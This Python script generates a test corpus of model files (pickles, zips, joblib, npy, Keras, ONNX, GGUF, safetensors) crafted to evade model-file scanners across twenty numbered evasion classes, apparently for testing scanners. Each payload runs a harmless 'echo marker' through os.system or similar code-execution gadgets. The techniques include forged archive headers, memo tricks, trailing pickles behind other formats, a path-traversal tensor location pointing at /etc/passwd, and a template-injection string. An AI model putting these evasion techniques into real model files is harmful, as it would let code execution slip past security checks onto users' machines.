"""Makes files that scanners of model files are known to miss, one or more for each class: `bypass.py FOLDER`.

The payload of each is a call that prints a marker, in the place of what an attacker would do. Nothing here is run, and
nothing of it does harm when loaded. The classes are numbered as in docs/models.md.
"""

import base64
import binascii
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = pathlib.Path(sys.argv[1])
OUT.mkdir(parents=True, exist_ok=True)
COMMAND = "echo marker"


def write(name, data):
    (OUT / name).write_bytes(data)


def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def call(module, name, *arguments, end=b"."):
    """A pickle of protocol 4 that calls module.name."""
    body = b"".join(text(it) if isinstance(it, str) else pickle.dumps(it, 2)[2:-1] for it in arguments)
    return b"\x80\x04" + text(module) + text(name) + b"\x93(" + body + b"tR" + end


PAYLOAD = call("os", "system", COMMAND)
OLD = b"cos\nsystem\n(S'echo marker'\ntR."


def zipped(members, method=zipfile.ZIP_STORED):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", method) as file:
        for name, content in members.items():
            file.writestr(zipfile.ZipInfo(name), content, method)
    return data.getvalue()


# 1: modules that are on no deny-list, or were not for long
GADGETS = [
    ("pip", "main", ["--version"]), ("pip._internal.cli.main", "main", ["--version"]),
    ("imaplib", "IMAP4_stream", COMMAND), ("uuid", "_get_command_stdout", "echo", "marker"),
    ("_pyrepl.pager", "pipe_pager", "x", COMMAND), ("_osx_support", "_read_output", COMMAND),
    ("_aix_support", "_read_cmd_output", COMMAND), ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "1"),
    ("idlelib.run", "Executive.runcode", "1"), ("lib2to3.pgen2.grammar", "Grammar.loads", "x"),
    ("test.support.script_helper", "assert_python_ok", "-c", "1"), ("timeit", "timeit", "1"),
    ("cProfile", "run", "1"), ("profile", "run", "1"), ("trace", "Trace.run", "1"), ("bdb", "Bdb.run", "1"),
    ("pdb", "run", "1"), ("doctest", "debug_script", "1"), ("code", "InteractiveInterpreter.runcode", "1"),
    ("runpy", "_run_code", "1"), ("ensurepip", "_run_pip", ["--version"]), ("venv", "create", "x"),
    ("distutils.file_util", "write_file", "x", ["y"]), ("logging", "FileHandler", "x"), ("_io", "FileIO", "x"),
    ("numpy.f2py.crackfortran", "getlincoef", "1", "x"), ("numpy.testing._private.utils", "runstring", "1", {}),
    ("torch.utils.collect_env", "run", COMMAND), ("torch.utils._config_module", "ConfigModule.load_config", b"x"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", "1", {}), ("torch.jit.unsupported_tensor_ops", "execWrapper", "1", {}),
    ("torch._inductor.codecache", "compile_file", "", "", ["echo", "marker"]), ("torch._dynamo.guards", "GuardBuilder.get", "1"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "1"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pkl", b"x"), ("torch.hub", "load", "a/b", "c"),
    ("torch.distributed.rpc", "rpc_sync", "x", "y"), ("torch.storage", "_load_from_bytes", PAYLOAD),
    ("pandas.io.parsers.readers", "read_csv", "http://127.0.0.1/"), ("pandas", "read_pickle", "x"), ("numpy", "load", "x"),
    ("joblib", "load", "x"), ("mlflow.projects.backend.local", "_run_entry_point", COMMAND, "x"), ("pty", "spawn", "true"),
    ("ssl", "get_server_certificate", ["127.0.0.1", 1]), ("urllib.request", "urlopen", "http://127.0.0.1/"),
    ("requests.api", "get", "http://127.0.0.1/"), ("webbrowser", "open", "about:blank"), ("shutil", "rmtree", "/nowhere"),
    ("multiprocessing.util", "spawnv_passfds", "true", ["true"], []), ("platform", "popen", COMMAND), ("linecache", "getlines", "x"),
    ("types", "CodeType", 0), ("functools", "reduce", "x", []), ("cloudpickle.cloudpickle", "_make_function", "x"),
    ("dill._dill", "_create_function", "x"), ("marshal", "loads", b"N"), ("zipimport", "zipimporter", "x"), ("ctypes", "CDLL", "x"),
    ("sqlite3", "connect", "x"), ("smtplib", "SMTP", "127.0.0.1"), ("commands", "getoutput", COMMAND), ("getpass", "getpass", "x"),
    ("my_company.models", "run", COMMAND), ("sklearn.utils", "shell", COMMAND), ("numpy", "os.system", COMMAND),
]
for number, (module, name, *arguments) in enumerate(GADGETS):
    write(f"01-gadget-{number:02}-{module.split('.')[0]}.pkl", call(module, name, *arguments))

# 2: extensions that say something else, or nothing
for name in ("config.p", "model.xyz", "weights", "notes.txt", "data.csv", "model.safetensors", "image.png", "model.bin"):
    write(f"02-{name}", PAYLOAD)

# 3: the two directories of a zip name different files
data = zipped({"m/data.pkl": PAYLOAD})
at = data.rfind(b"m/data.pkl")
write("03-central-name.pt", data[:at] + b"m/data.txt" + data[at + 10 :])
at = data.find(b"m/data.pkl")
write("03-local-name.pt", data[:at] + b"m/data.txt" + data[at + 10 :])
two = zipped({"a/x.pkl": PAYLOAD, "a/y.txt": b"harmless"})
at = two.find(b"PK\x01\x02")
second = two.find(b"PK\x01\x02", at + 4)
end = bytearray(two[two.find(b"PK\x05\x06") :])
kept = two[second : two.find(b"PK\x05\x06")]
end[8:12] = struct.pack("<HH", 1, 1)
end[12:20] = struct.pack("<II", len(kept), at)
write("03-hidden-member.zip", two[:at] + kept + bytes(end))
write("03-no-directory.zip", data[: data.find(b"PK\x01\x02")])
write("03-prefixed.zip", b"#!/bin/sh\nexit 0\n" + data)
write("03-two-archives.zip", zipped({"a.txt": b"harmless"}) + data)
write("03-duplicate.zip", zipped({"a.pkl": b"N."})[:-22] + b"" + data)

# 4: flag bits that make readers give up
for flag in (1, 0x20, 0x40, 0x2000):
    packed = bytearray(data)
    packed[6:8] = struct.pack("<H", flag)
    at = packed.find(b"PK\x01\x02")
    packed[at + 8 : at + 10] = struct.pack("<H", flag)
    write(f"04-flag-{flag:x}.pt", bytes(packed))

# 5: a checksum that is wrong
packed = bytearray(data)
packed[14:18] = b"\1\2\3\4"
at = packed.find(b"PK\x01\x02")
packed[at + 16 : at + 20] = b"\1\2\3\4"
write("05-checksum.pt", bytes(packed))
packed = bytearray(zipped({"m/data.pkl": PAYLOAD}, zipfile.ZIP_DEFLATED))
packed[14:18] = b"\1\2\3\4"
write("05-checksum-deflated.pt", bytes(packed))

# 6: modules inside denied packages
for module, name in [
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("os.path", "os.system"), ("urllib.parse", "urlparse.x"),
    ("concurrent.futures.process", "ProcessPoolExecutor"), ("ctypes.util", "find_library"), ("http.client", "HTTPConnection"),
]:
    write(f"06-{module}.pkl", call(module, name, COMMAND))

# 7: another container, or a stream that breaks after the payload
try:
    import py7zr

    with py7zr.SevenZipFile(OUT / "07-archive.7z", "w") as file:
        file.writestr(PAYLOAD, "data.pkl")
except ImportError:
    print("left out: py7zr is not installed", file=sys.stderr)
for name, end in {"ends": b"", "rubbish": b"\xff\xff", "key": b"h\x63.", "stack": b"000", "proto": b"\x80\x09.", "text": b"X\xff\xff\xff\x7f"}.items():
    write(f"07-broken-{name}.pkl", PAYLOAD[:-1] + end)
    write(f"07-broken-{name}-old.pkl", OLD[:-1] + end)
    write(f"07-broken-{name}.pt", zipped({"m/data.pkl": PAYLOAD[:-1] + end}))

# 8: names from the memo and in odd spellings
write("08-memo.pkl", b"\x80\x04" + text("system") + b"\x940" + text("os") + b"h\x00\x93" + text(COMMAND) + b"\x85R.")
write("08-between.pkl", b"\x80\x04" + text("os") + b"K\x010" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.")
write("08-decoy.pkl", b"\x80\x04" + text("os") + text("system") + text("collections") + text("OrderedDict") + b"00\x93" + text(COMMAND) + b"\x85R.")
write("08-escaped.pkl", b"V\\u006fs\nV\\u0073ystem\n\x93(S'echo marker'\ntR.")
write("08-quoted.pkl", b"S'\\x6fs'\nS'\\163ystem'\n\x93(S'echo marker'\ntR.")
write("08-dup.pkl", b"\x80\x04" + text("os") + b"2\x9400h\x00" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.")
write("08-missing-key.pkl", PAYLOAD[:-1] + b"0h\x630.")
write("08-type.pkl", b"\x80\x04K\x01K\x02\x93.")
write("08-far-memo.pkl", b"\x80\x04" + text("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.")
write("08-memoize.pkl", b"\x80\x04" + text("x") + b"r\xff\xff\x00\x00" + text("os") + b"\x94" + text("system") + b"000h\x01" + text("system") + b"\x93" + text(COMMAND) + b"\x85R.")

# 9: other opcodes that call, and results that are dropped
write("09-inst.pkl", b"(S'echo marker'\nios\nsystem\n.")
write("09-obj.pkl", b"(cos\nsystem\nS'echo marker'\no.")
write("09-obj-dropped.pkl", b"(cos\nsystem\nS'echo marker'\no0N.")
write("09-reduce-dropped.pkl", PAYLOAD[:-1] + b"0N.")
write("09-newobj.pkl", b"\x80\x02csubprocess\nPopen\n(X\x04\x00\x00\x00truet\x81.")
write("09-newobj-ex.pkl", b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93(" + text("true") + b"t}\x92.")
write("09-mark-dropped.pkl", b"(" + OLD[:-1] + b"1N.")

# 10: what resolves any name
write("10-resolve.pkl", b"\x80\x04" + text("pkgutil") + text("resolve_name") + b"\x93" + text("os:system") + b"\x85R" + text(COMMAND) + b"\x85R.")
write("10-getattr.pkl", b"cbuiltins\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR(S'echo marker'\ntR.")
write("10-attrgetter.pkl", b"coperator\nattrgetter\n(S'system'\ntR(c__builtin__\n__import__\n(S'os'\ntRtR(S'echo marker'\ntR.")
write("10-partial.pkl", b"cfunctools\npartial\n(cos\nsystem\nS'echo marker'\ntR.")
write("10-locate.pkl", call("pydoc", "locate", "os.system"))
write("10-import-module.pkl", call("importlib", "import_module", "os"))

# 11: what an allowed module has by chance, and states for names
write("11-builtins.pkl", b"\x80\x04" + text("numpy") + text("__builtins__") + b"\x93.")
write("11-dotted.pkl", call("numpy", "testing.os.system", COMMAND))
write("11-build.pkl", b"\x80\x04" + text("numpy") + text("ndarray") + b"\x93}" + text("__reduce__") + b"K\x01sb.")
write("11-getattribute.pkl", b"\x80\x04" + text("numpy") + text("size.__class__") + b"\x93.")
write("11-class.pkl", b"\x80\x02cuuid\nUUID\n)\x81}" + b"X\x09\x00\x00\x00__class__" + b"ccollections\nOrderedDict\nsb.")
write("11-setitem.pkl", b"\x80\x04" + text("sys") + text("modules") + b"\x93" + text("os") + b"NsN.")

# 12: PyTorch's magic number behind a call
write("12-magic.pt", b"\x80\x04cbuiltins\neval\nX\x0f\x00\x00\x00119547037146038\x85R." + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + PAYLOAD)

# 13: exceptions before the scanner's eyes reach the payload, or right after it
for number, opcode in enumerate([b"\x93", b"R", b"b", b"s", b"a", b"o", b"\x92", b"g99\n", b"h\x99"]):
    write(f"13-exception-{number}.pkl", PAYLOAD[:-1] + b"0" + opcode + b".")

# 14: ways in which loaders are led to pickles
for name, pack in {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "z": zlib.compress,
                   "lzma": lambda it: lzma.compress(it, lzma.FORMAT_ALONE)}.items():
    write(f"14-packed.joblib.{name}", pack(PAYLOAD))
    write(f"14-packed-{name}.pkl", pack(PAYLOAD))
write("14-deflated.zip", zipped({"a/b.pkl": PAYLOAD}, zipfile.ZIP_DEFLATED))
write("14-bzip2.zip", zipped({"a/b.pkl": PAYLOAD}, zipfile.ZIP_BZIP2))
write("14-lzma.zip", zipped({"a/b.pkl": PAYLOAD}, zipfile.ZIP_LZMA))
write("14-nested.zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.pkl": PAYLOAD})})}))
write("14-archive.mar", zipped({"MAR-INF/MANIFEST.json": b"{}", "model.pt": zipped({"m/data.pkl": PAYLOAD})}))
write("14-package.pt", zipped({"p/.data/extern_modules": b"", "p/model/model.pkl": PAYLOAD}))
for kind in ("w", "w:gz", "w:bz2", "w:xz"):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode=kind) as file:
        info = tarfile.TarInfo("a" * 150 + "/pickle")
        info.size = len(PAYLOAD)
        file.addfile(info, io.BytesIO(PAYLOAD))
    write(f"14-archive.{kind.replace(':', '')}.tar", packed.getvalue())
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + PAYLOAD
write("14-objects.npy", npy)
write("14-objects.npz", zipped({"a.npy": npy}, zipfile.ZIP_DEFLATED))
write("14-code.npy", npy.replace(b"'|O'", b"eval").replace(PAYLOAD, b""))
code = base64.b64encode(b"\xe3\x00\x00\x00\x00marker").decode()
layer = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}}}]}}
write("14-lambda.keras", zipped({"config.json": json.dumps(layer), "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}))
module = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
write("14-module.keras", zipped({"config.json": json.dumps({"module": "os", "class_name": "system", "config": {"activation": module}}), "metadata.json": b"{}"}))
write("14-get-file.keras", zipped({"config.json": json.dumps({"class_name": "function", "module": "keras.utils", "config": "get_file"}), "metadata.json": b"{}"}))
write("14-lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 200 + json.dumps(layer).encode() + b"\0" * 50)


def message(*fields):
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += bytes([number << 3]) + bytes([value])
        else:
            value = value if isinstance(value, bytes) else value.encode()
            size = len(value)
            out += bytes([number << 3 | 2]) + (bytes([size]) if size < 128 else bytes([size & 127 | 128, size >> 7])) + value
    return out


node = message((1, "x"), (2, "PyFunc"))
write("14-saved_model.pb", message((1, 1), (2, message((2, message((1, node)))))))
write("14-function-saved_model.pb", message((1, 1), (2, message((2, message((2, message((1, message((3, node))))))))))) 
tensor = message((13, message((1, "location"), (2, "../../../etc/passwd"))))
graph = message((1, message((4, "Relu"))), (5, tensor))
write("14-external.onnx", message((1, 8), (7, graph), (8, message((2, 17)))))
write("14-python.onnx", message((1, 8), (7, message((1, message((4, "PyOp"), (7, "com.microsoft"))))), (8, message((2, 17)))))
climb = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
key = b"tokenizer.chat_template"
write("14-template.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(climb)) + climb.encode())
(OUT / "14-template").mkdir(exist_ok=True)
write("14-template/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": climb}]}).encode())
schema = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {}, "protocol": 2}
write("14-function.skops", zipped({"schema.json": json.dumps(schema)}))

# 15: gadgets that take several steps
write("15-numpy.pkl", call("numpy", "fromfile", "x"))
write("15-map.pkl", b"c__builtin__\nlist\n(c__builtin__\nmap\n(cos\nsystem\n(S'echo marker'\nltRtR.")
write("15-starmap.pkl", b"cbuiltins\nlist\n(citertools\nstarmap\n(cos\nsystem\n((S'echo marker'\ntltRtR.")
write("15-exec.pkl", call("builtins", "exec", "print('marker')"))
write("15-compile.pkl", b"cbuiltins\neval\n(cbuiltins\ncompile\n(S\"print('marker')\"\nS''\nS'eval'\ntRtR.")
write("15-setattr.pkl", b"cbuiltins\nsetattr\n(cos\npath\nS'x'\nI1\ntR.")
write("15-breakpoint.pkl", call("builtins", "breakpoint"))
write("15-result-called.pkl", b"\x80\x04" + text("collections") + text("Counter") + b"\x93)R)R.")

# 16: after the first array of a joblib file
try:
    import joblib
    import numpy

    class Last:
        def __reduce__(self):
            import os

            return os.system, (COMMAND,)

    for name, array in {"floats": numpy.arange(1000.0), "texts": numpy.array(["a", "b"]), "objects": numpy.array([1, "a"], dtype=object)}.items():
        for compress in (0, 3):
            joblib.dump([array, Last(), array], OUT / f"16-after-{name}-{compress}.joblib", compress=compress)
    inner = numpy.array([Last(), 1], dtype=object)
    joblib.dump({"a": numpy.zeros(3), "b": inner}, OUT / "16-in-objects.joblib")
    # As old releases wrote it, without a byte of padding before the array: `pickle.load` reads the array as opcodes.
    from joblib.numpy_pickle import NumpyArrayWrapper

    wrapper = NumpyArrayWrapper(numpy.ndarray, (len(OLD),), "C", numpy.dtype("u1"))
    del wrapper.__dict__["numpy_array_alignment_bytes"]
    write("16-opcodes-in-array.joblib", pickle.dumps(wrapper, 2)[:-1] + OLD + b".")
except ImportError:
    print("left out: joblib and numpy are not installed", file=sys.stderr)

# 17: frames, and names of private interpreters
write("17-frame-straddled.pkl", b"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00" + PAYLOAD[2:])
write("17-frame-too-long.pkl", b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + PAYLOAD[2:])
write("17-frame-in-frame.pkl", b"\x80\x04\x95\x40\x00\x00\x00\x00\x00\x00\x00\x95\x02\x00\x00\x00\x00\x00\x00\x00" + PAYLOAD[2:])
write("17-extension.pkl", b"\x80\x04\x82\x01(" + text(COMMAND) + b"tR.")
write("17-interpreters.pkl", call("_xxsubinterpreters", "run_string", 1, "1"))
write("17-testcapi.pkl", call("_testcapi", "run_in_subinterp", "1"))

# 18: pickles in texts
for name, encoded in {
    "raw": PAYLOAD, "base64": base64.b64encode(PAYLOAD).decode(), "hex": binascii.hexlify(PAYLOAD).decode(),
    "twice": base64.b64encode(base64.b64encode(PAYLOAD)).decode(), "zlib": base64.b64encode(zlib.compress(PAYLOAD)).decode(),
    "old": OLD, "within": pickle.dumps({"inner": PAYLOAD}, 4),
}.items():
    write(f"18-{name}.pkl", pickle.dumps({"weights": [1, 2], "data": encoded}, 4))
write("18-cloudpickle.pkl", call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"))
write("18-dill.pkl", call("dill._dill", "_load_type", "CodeType"))

# 19: more than one pickle
write("19-second.pkl", pickle.dumps({"a": 1}, 4) + PAYLOAD)
write("19-second-old.pkl", pickle.dumps({"a": 1}, 4) + OLD)
write("19-after-rubbish.pkl", pickle.dumps({"a": 1}, 4) + b"\xff" * 100 + PAYLOAD)
write("19-after-zeros.pkl", pickle.dumps({"a": 1}, 4) + b"\0" * 4096 + OLD)
write("19-proto-again.pkl", b"\x80\x02" + PAYLOAD)
write("19-proto-lower.pkl", b"\x80\x04\x80\x00" + OLD)
write("19-many.pkl", pickle.dumps(1, 2) * 200 + PAYLOAD)

# 20: behind other formats
header = json.dumps({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
safe = struct.pack("<Q", len(header)) + header + b"\0\0\0\0"
write("20-trailing.safetensors", safe + PAYLOAD)
write("20-trailing-old.safetensors", safe + b"\0" * 64 + OLD)
write("20-zip.safetensors", safe + zipped({"m/data.pkl": PAYLOAD}))
array = b"{'descr': '|u1', 'fortran_order': False, 'shape': (4,), }"
array += b" " * (63 - (len(array) + 10) % 64) + b"\n"
write("20-trailing.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(array)) + array + b"\0\0\0\0" + PAYLOAD)
write("20-pickle-zip.pkl", pickle.dumps({"a": 1}, 4) + zipped({"m/data.pkl": PAYLOAD}))
write("20-tar-rubbish.tar", tarfile.TarInfo("a").tobuf() + b"\0" * 1024 + PAYLOAD)
write("20-outside.zip", zipped({"../../outside.txt": b"marker"}))
print(json.dumps({"files": len([it for it in OUT.rglob("*") if it.is_file()])}))
